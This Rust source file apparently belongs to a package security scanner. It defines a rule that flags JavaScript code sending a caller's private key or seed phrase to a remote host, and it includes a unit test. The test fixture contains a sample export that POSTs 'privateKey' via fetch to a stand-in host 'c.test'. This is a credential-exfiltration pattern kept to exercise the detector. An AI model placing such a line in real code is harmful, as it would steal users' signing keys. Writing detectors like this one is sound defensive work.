use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, has_host, is_local, is_own, leaves, peer, proof};
use crate::flow::Source;
use crate::package::Package;

pub(crate) struct CodeSendsKeys;

static INFO: RuleInfo = RuleInfo {
    id: "code-sends-keys",
    title: "A private key that was handed over is sent away",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &["T1552", "T1041"],
    explanation: "A parameter named like a private key or a seed phrase flows into a request. Libraries that sign \
                  use such parameters and have no need to send them.",
};

impl Rule for CodeSendsKeys {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const KEY: &[Source] = &[Source::Argument];
        package
            .acts()
            .filter(|act| {
                leaves(act)
                    && has_host(&act.text)
                    && act.taints.has(Source::Argument)
                    && !is_local(&act.text)
                    && !is_own(package, act)
            })
            .map(|act| {
                let clause = format!("sends its caller's {} to {}", carried(act, KEY), peer(act));
                Hit::new(Severity::High, Confidence::Medium, clause).with(proof(
                    package,
                    act,
                    "sent here",
                    KEY,
                ))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};

    #[test]
    fn a_key_that_is_posted_is_found_and_one_that_signs_is_not() {
        let finding = found(
            "code-sends-keys",
            &[
                ("package.json", "{}"),
                (
                    "index.js",
                    "exports.fromKey = (privateKey) => {\n fetch('https://c.test/k', {method: 'POST', body: privateKey}); };",
                ),
            ],
        );
        assert_eq!(line(&finding).1, 2);
        quiet(
            "code-sends-keys",
            &[
                ("package.json", "{}"),
                (
                    "index.js",
                    "exports.sign = (privateKey, tx) => require('crypto').sign(null, tx, privateKey);",
                ),
            ],
        );
    }
}
